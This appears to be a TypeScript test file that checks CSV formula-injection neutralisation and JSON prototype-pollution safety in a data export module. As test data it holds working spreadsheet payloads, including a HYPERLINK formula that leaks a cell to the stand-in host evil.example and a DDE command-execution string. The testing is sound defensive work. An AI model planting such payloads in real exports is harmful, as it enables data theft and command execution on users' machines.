import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import type { ResultTable } from '../../src/results/queryResult';
import { neutraliseFormula, safeCsvCellText, startsFormula } from '../../src/render/csvSafety';
import { toCsv, toJsonRecords } from '../../src/render/exportData';

/** The audit's payloads, each of which a spreadsheet runs as a formula. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV formula neutralisation (OWASP)', () => {
  test('text starting with = + - @ tab or CR gets a leading quote', () => {
    for (const p of PAYLOADS) {
      assert.equal(startsFormula(p), true, JSON.stringify(p));
      assert.equal(neutraliseFormula(p), `'${p}`);
    }
  });

  test('plain text and plain numbers written as text are left alone', () => {
    for (const s of ['acme-demo', 'a=b', ' =x', '', '-2', '+1.5', '-1e5', '.5', '2026-11-23']) {
      assert.equal(neutraliseFormula(s), s, JSON.stringify(s));
    }
  });

  test('numbers and typed values keep their text; strings of string and dynamic columns are neutralised', () => {
    assert.equal(safeCsvCellText('-2', -2, 'long'), '-2');
    assert.equal(safeCsvCellText('-0.5', -0.5, 'real'), '-0.5');
    assert.equal(safeCsvCellText('-01:00:00', '-01:00:00', 'timespan'), '-01:00:00');
    assert.equal(safeCsvCellText('-2+3', '-2+3', 'string'), "'-2+3");
    assert.equal(safeCsvCellText('=1+1', '=1+1', 'dynamic'), "'=1+1");
    assert.equal(safeCsvCellText('-3', -3, 'dynamic'), '-3');
    assert.equal(safeCsvCellText('["=1"]', ['=1'], 'dynamic'), '["=1"]');
  });
});

const hostile: ResultTable = {
  name: 'PrimaryResult',
  columns: [
    { name: 'Computer', type: 'string' },
    { name: 'Delta', type: 'long' },
    { name: 'Took', type: 'timespan' },
    { name: '=Name', type: 'string' },
  ],
  rows: [
    [PAYLOADS[0]!, -2, '-00:01:00', '@SUM(1+1)'],
    [PAYLOADS[1]!, 5, '00:01:00', '-2+3'],
    ['web-01', -7, null, '-2'],
  ],
};

describe('CSV export of hostile cells', () => {
  test('neutralises formulas in strings and the header, keeps numbers and timespans as they are', () => {
    assert.equal(
      toCsv(hostile),
      [
        "'=Name".replace(/^/, 'Computer,Delta,Took,'),
        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-2,-00:01:00,'@SUM(1+1)`,
        "'+cmd|' /C calc'!A0,5,00:01:00,'-2+3",
        'web-01,-7,,-2',
      ].join('\r\n') + '\r\n',
    );
  });

  test('writes the cells as they are when neutralisation is turned off', () => {
    const lines = toCsv(hostile, { neutraliseFormulas: false }).split('\r\n');
    assert.equal(lines[0], 'Computer,Delta,Took,=Name');
    assert.equal(lines[2], "+cmd|' /C calc'!A0,5,00:01:00,-2+3");
  });
});

describe('JSON export of hostile names', () => {
  test('keeps a column named __proto__ (and constructor) as an ordinary key', () => {
    const table: ResultTable = {
      name: 'PrimaryResult',
      columns: [
        { name: '__proto__', type: 'dynamic' },
        { name: 'constructor', type: 'string' },
        { name: 'x', type: 'long' },
      ],
      rows: [[{ polluted: true }, 'c', 1]],
    };
    const text = toJsonRecords(table);
    assert.match(text, /"__proto__": \{/);
    const parsed = JSON.parse(text) as Record<string, unknown>[];
    assert.deepEqual(Object.keys(parsed[0]!), ['__proto__', 'constructor', 'x']);
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
  });
});
